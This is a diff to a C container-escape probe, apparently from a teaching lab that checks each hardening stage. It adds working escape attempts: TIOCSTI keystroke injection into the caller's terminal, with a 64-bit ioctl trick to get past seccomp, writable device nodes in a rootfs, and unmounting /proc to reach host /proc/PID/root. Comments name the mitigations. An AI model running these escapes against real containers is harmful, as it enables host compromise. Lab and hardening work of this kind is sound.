@@ -66,6 +66,8 @@
  *     memory-bomb [MIB]          take MIB mebibytes (256)
  *     userns                     make a user namespace, mount in it
  *     keyring                    add a key to the kernel's keyrings
+ *     terminal [--high-bits] [TEXT]  push TEXT into its terminal's input
+ *     device-node NODE           open a device node for writing
  *
  * MARKER is an absolute path that exists on the host and not in the
  * container's rootfs; HOSTPID a process on the host (the lab starts a
@@ -106,6 +108,7 @@
 #include <stdio.h>             /* printf(), snprintf(), getline() */
 #include <stdlib.h>            /* malloc(), mkdtemp(), strtol() */
 #include <string.h>            /* strerror(), strerrorname_np() */
+#include <sys/ioctl.h>         /* ioctl(), TIOCSTI: the terminal */
 #include <sys/mman.h>          /* mmap(): a counter a child can update */
 #include <sys/mount.h>         /* mount(), umount2(), MS_*, MNT_DETACH */
 #include <sys/ptrace.h>        /* ptrace(), PTRACE_SEIZE, ..._INTERRUPT */
@@ -453,6 +456,23 @@ static int try_chroot(char **args)
 }
 
 /*
+ * Is process PID (a name in /proc) one of the probe's own processes?
+ * Their command line starts with a path to escape-probe. A process's
+ * own root is no door out: proc-root looks past them.
+ */
+static int is_probe(const char *pid)
+{
+	char path[300], command[256] = "";
+	const char *name;
+
+	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
+	if (read_small_file(path, command, sizeof(command)) <= 0)
+		return 0;
+	name = strrchr(command, '/');
+	return strcmp(name ? name + 1 : command, "escape-probe") == 0;
+}
+
+/*
  * proc-root MARKER: look for MARKER below /proc/PID/root of every
  * process this /proc shows but the probe itself. That link is a
  * process's root directory, and following it goes there whatever the
@@ -460,15 +480,18 @@ static int try_chroot(char **args)
  *
  * Next, an attacker uses /proc/1/root/ as a door into the host's whole
  * filesystem, to read or write anything. Taken away by a PID namespace
- * with a /proc mounted for it, where no host process has an entry;
- * and following the link needs ptrace access to its process (proc(5),
- * /proc/pid/root), which root in a user namespace lacks over the
- * host's processes.
+ * with a /proc mounted for it, where no host process has an entry, but
+ * only once the host's /proc is out of the mount tree (stage 4's
+ * pivot_root): until then root inside may unmount the new one, and the
+ * lab tries that too (try_beneath_proc). Following the link also needs
+ * ptrace access to its process (proc_pid_root(5); proc(5) on older
+ * man pages), which root in a user namespace lacks over the host's
+ * processes.
  */
 static int try_proc_root(char **args)
 {
 	const char *marker = args[0];
-	char path[512], self[32] = "";
+	char path[512];
 	struct dirent *entry;
 	long pid = 0;
 	struct stat st;
@@ -480,12 +503,8 @@ static int try_proc_root(char **args)
 	proc = opendir("/proc");
 	if (proc == NULL)
 		return report_errno(EXIT_BLOCKED, errno, "opendir /proc");
-	/* The probe's own number, as this /proc counts (proc(5)). */
-	if (readlink("/proc/self", self, sizeof(self) - 1) < 0)
-		self[0] = '\0';
 	while (pid == 0 && (entry = readdir(proc)) != NULL) {
-		if (!is_number(entry->d_name) ||
-		    strcmp(entry->d_name, self) == 0)
+		if (!is_number(entry->d_name) || is_probe(entry->d_name))
 			continue;
 		if ((size_t)snprintf(path, sizeof(path), "/proc/%s/root%s",
 				     entry->d_name, marker) >= sizeof(path))
@@ -499,6 +518,95 @@ static int try_proc_root(char **args)
 			      "host's files", pid);
 	return report(EXIT_BLOCKED, "no /proc/PID/root leads to %s",
 		      marker);
+}
+
+/* An attempt, for a second try under the container's /proc. */
+struct under_proc {
+	int (*attempt)(char **args);
+	char **args;
+};
+
+/* The first try: the attempt as it is. */
+static int try_as_is(void *arg)
+{
+	const struct under_proc *u = arg;
+
+	return u->attempt(u->args);
+}
+
+/*
+ * The second try: a mount namespace of the child's own, its mounts
+ * made private first (so nothing it does reaches the container's, let
+ * alone the host's), /proc unmounted there, and the attempt again.
+ * What the container's /proc was mounted over shows: at stage 3, the
+ * host's /proc, which a fresh procfs on top only covers; from stage 4
+ * on, the rootfs's empty directory.
+ */
+static int try_under_proc(void *arg)
+{
+	const struct under_proc *u = arg;
+
+	if (unshare(CLONE_NEWNS) < 0)
+		return report_errno(EXIT_BLOCKED, errno, "unshare CLONE_NEWNS");
+	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
+		return report_errno(EXIT_BLOCKED, errno, "make the mounts "
+				    "private");
+	if (umount2("/proc", MNT_DETACH) < 0)
+		return report_errno(EXIT_BLOCKED, errno, "umount /proc");
+	return u->attempt(u->args);
+}
+
+/* Run FN(ARG) in a child whose verdict line goes into LINE (SIZE
+ * bytes) rather than to stdout; returns the verdict. */
+static int run_quietly(int (*fn)(void *arg), void *arg, char *line,
+		       size_t size)
+{
+	int out[2], verdict;
+	size_t used = 0;
+	ssize_t n;
+
+	line[0] = '\0';
+	fflush(stdout);
+	if (pipe(out) < 0)
+		return report_errno(EXIT_UNKNOWN, errno, "pipe");
+	if (fork() == 0) {
+		dup2(out[1], STDOUT_FILENO);
+		close(out[0]);
+		close(out[1]);
+		_exit(run_in_child(fn, arg));
+	}
+	close(out[1]);
+	while (used < size - 1 &&
+	       (n = read(out[0], line + used, size - 1 - used)) > 0)
+		used += (size_t)n;
+	line[used] = '\0';
+	close(out[0]);
+	while (wait(&verdict) < 0 && errno == EINTR)
+		;
+	return WIFEXITED(verdict) ? WEXITSTATUS(verdict) : EXIT_UNKNOWN;
+}
+
+/*
+ * Try ATTEMPT; when it is blocked, try again under the container's
+ * /proc (try_under_proc): a fresh /proc on top of the host's only
+ * covers it, and root inside may unmount it. One line, as ever: the
+ * second try's if it escaped, else the first's.
+ */
+static int try_beneath_proc(int (*attempt)(char **args), char **args)
+{
+	struct under_proc u = { attempt, args };
+	char first[512], second[512];
+	int verdict = run_quietly(try_as_is, &u, first, sizeof(first));
+
+	if (verdict == EXIT_BLOCKED &&
+	    run_quietly(try_under_proc, &u, second, sizeof(second)) ==
+	    EXIT_ESCAPED) {
+		printf("ESCAPED: umount /proc, and then: %s",
+		       second + strlen("ESCAPED: "));
+		return EXIT_ESCAPED;
+	}
+	fputs(first, stdout);
+	return verdict;
 }
 
 /* What joining a mount namespace needs: the ns file, and the host
@@ -543,8 +651,10 @@ static int join_mount_ns(void *arg)
  * Next, an attacker in the host's mount namespace sees the host's
  * mounts and files as if no container were around it, and can join
  * the host's other namespaces the same way. Taken away by a PID
- * namespace with its own /proc, where the host process has no entry;
- * opening the file needs ptrace access to the process; and setns(2)
+ * namespace with its own /proc, where the host process has no entry,
+ * once the host's /proc is gone from the mount tree (stage 4), as for
+ * proc-root; opening the file needs ptrace access to the process; and
+ * setns(2)
  * into a mount namespace needs CAP_SYS_ADMIN in the user namespace
  * that owns it, plus CAP_SYS_CHROOT and CAP_SYS_ADMIN in the caller's
  * own: a user namespace, or dropping those capabilities, stops it.
@@ -577,6 +687,18 @@ static int try_proc_ns(char **args)
 		return report(EXIT_ESCAPED, "already in the host's mount "
 			      "namespace");
 	return run_in_child(join_mount_ns, &join);
+}
+
+/* proc-root and proc-ns as the lab runs them: beneath the container's
+ * /proc too, if it is blocked at first (try_beneath_proc). */
+static int try_proc_root_beneath(char **args)
+{
+	return try_beneath_proc(try_proc_root, args);
+}
+
+static int try_proc_ns_beneath(char **args)
+{
+	return try_beneath_proc(try_proc_ns, args);
 }
 
 /* ------------------------------------------------------------------ */
@@ -646,8 +768,11 @@ static int mount_disk(const char *node, const char *dir,
  * in root's authorized_keys, a cron job, a setuid shell. Taken away by
  * a /dev of the container's own with no disks in it, and no way to
  * make one: mknod(2) of a device needs CAP_MKNOD in the initial user
- * namespace, so a user namespace stops it; by the device controller
- * of cgroup v2, which refuses to open the node; and by mount(2): a
+ * namespace, so a user namespace stops it; by a cgroup's device
+ * rules, where a runtime sets them (Docker does; cgroup v2 has no
+ * device files to write: its rules are a BPF program of type
+ * BPF_PROG_TYPE_CGROUP_DEVICE, and container.c attaches none); and
+ * by mount(2): a
  * disk filesystem such as ext4 mounts only for CAP_SYS_ADMIN in the
  * initial user namespace. The mount is gone before the verdict.
  */
@@ -710,7 +835,7 @@ static int starts_read_only(const char *options)
 
 /*
  * Fill STATE->mount_ro and ->super_ro from the last line about /sys in
- * /proc/self/mountinfo (proc(5)): the 6th field has the mount's
+ * /proc/self/mountinfo (proc_pid_mountinfo(5)): the 6th field has the mount's
  * options, the 3rd after " - " the superblock's. Returns 0, or -1 when
  * /sys is not found there.
  */
@@ -785,8 +910,11 @@ static void restore_sys(const struct sys_state *state)
  * has /sys/kernel/uevent_helper, names a program the kernel then runs
  * as root on the host at the next device event. Taken away by a
  * read-only /sys and no CAP_SYS_ADMIN to remount it; in a user
- * namespace, a read-only flag set by a more privileged namespace is
- * locked (mount_namespaces(7)), and most sysfs files belong to the
+ * namespace, by the owner of the superblock: every sysfs belongs to
+ * the initial user namespace (fs/sysfs/mount.c marks it global), and
+ * a remount of a superblock needs CAP_SYS_ADMIN there. (Root of a
+ * user namespace may clear the read-only flag of its own bind mount;
+ * the superblock stays read-only.) And most sysfs files belong to the
  * host's root, which the container's root is not.
  */
 static int try_remount_sys(char **args)
@@ -1539,6 +1667,73 @@ static int try_keyring(char **args)
 	return report_errno(EXIT_BLOCKED, err, "add_key");
 }
 
+/*
+ * terminal [--high-bits] [TEXT]: push TEXT (by default a shell
+ * comment, which a shell that read it would ignore) into the input of
+ * the terminal on standard input, one byte at a time, with
+ * ioctl(TIOCSTI), as if it had been typed there. When that terminal is
+ * the caller's, the shell that started the container reads the bytes
+ * once the container ends, and runs them, as the caller: a command
+ * pushed this way runs outside (bubblewrap's CVE-2017-5226). From
+ * inside, the probe cannot see whose terminal it is: the escape lab
+ * runs it at a terminal of its own and looks whether the line reached
+ * the shell that started the container. Taken away by a terminal of
+ * the container's own (stage 4: the bytes reach only it) and by the
+ * seccomp filter (stage 8). With --high-bits the request carries a bit
+ * above the 32 the kernel reads: the same request to the kernel, but
+ * another number to a filter that compares all 64 (flatpak's
+ * CVE-2019-10063).
+ */
+static int try_terminal(char **args)
+{
+	unsigned long request = TIOCSTI;
+	const char *text = "# escape-probe: typed by the container\n";
+
+	if (args[0] != NULL && strcmp(args[0], "--high-bits") == 0) {
+		request |= (unsigned long)1 << 32;
+		args++;
+	}
+	if (args[0] != NULL)
+		text = args[0];
+	if (!isatty(STDIN_FILENO))
+		return report(EXIT_UNKNOWN, "standard input is not a terminal");
+	for (const char *p = text; *p != '\0'; p++)
+		if (ioctl(STDIN_FILENO, request, p) < 0)
+			return report_errno(EXIT_BLOCKED, errno, "ioctl TIOCSTI");
+	return report(EXIT_ESCAPED, "pushed %zu bytes into the input of its "
+		      "terminal", strlen(text));
+}
+
+/*
+ * device-node NODE: open NODE, a device node that came with the root
+ * filesystem, for writing, and write nothing. Whoever may open a node
+ * reaches the device, wherever the node lies: an image that holds a
+ * node of a host device, with a mode that lets anyone open it, hands
+ * that device to the container, past every check on the host's own
+ * /dev. The lab makes a node of /dev/kmsg, the kernel's log, where a
+ * line written shows in the host's dmesg as if the kernel wrote it; a
+ * disk's node would do worse. Taken away by mounting the root
+ * filesystem nodev (stage 4), so that no node on it opens; the
+ * container's devices are the few the runtime binds into its /dev.
+ */
+static int try_device_node(char **args)
+{
+	int fd = open(args[0], O_WRONLY | O_CLOEXEC);
+	struct stat st;
+
+	if (fd < 0)
+		return report_errno(EXIT_BLOCKED, errno, "open %s", args[0]);
+	if (fstat(fd, &st) < 0 || !(S_ISCHR(st.st_mode) ||
+				   S_ISBLK(st.st_mode))) {
+		close(fd);
+		return report(EXIT_UNKNOWN, "%s is no device node", args[0]);
+	}
+	close(fd);
+	return report(EXIT_ESCAPED, "opened the device %u:%u for writing "
+		      "through the node %s in the rootfs", major(st.st_rdev),
+		      minor(st.st_rdev), args[0]);
+}
+
 /* ------------------------------------------------------------------ */
 /* The command line                                                   */
 /* ------------------------------------------------------------------ */
@@ -1555,14 +1750,14 @@ struct attempt {
 
 static int list_attempts(char **args);
 
-/* Every subcommand; `list` prints the names up to "keyring". */
+/* Every subcommand; `list` prints the names up to "device-node". */
 static const struct attempt attempts[] = {
 	{ "chroot", "MARKER", 1, 1,
 	  "climb out of a chroot, look for MARKER", try_chroot },
 	{ "proc-root", "MARKER", 1, 1,
-	  "look for MARKER via /proc/PID/root", try_proc_root },
+	  "look for MARKER via /proc/PID/root", try_proc_root_beneath },
 	{ "proc-ns", "HOSTPID MARKER", 2, 2,
-	  "join HOSTPID's mount namespace", try_proc_ns },
+	  "join HOSTPID's mount namespace", try_proc_ns_beneath },
 	{ "mount-disk", "MAJ:MIN FSTYPE", 2, 2,
 	  "mount the host's disk", try_mount_disk },
 	{ "remount-sys", "", 0, 0,
@@ -1591,6 +1786,10 @@ static const struct attempt attempts[] = {
 	  "make a user namespace, mount in it", try_userns },
 	{ "keyring", "", 0, 0,
 	  "add a key to the kernel's keyrings", try_keyring },
+	{ "terminal", "[--high-bits] [TEXT]", 0, 2,
+	  "push TEXT into its terminal's input", try_terminal },
+	{ "device-node", "NODE", 1, 1,
+	  "open a device node for writing", try_device_node },
 	{ "handle", "PATH", 1, 1,
 	  "on the host: print PATH's handle", print_handle },
 	{ "list", "", 0, 0,
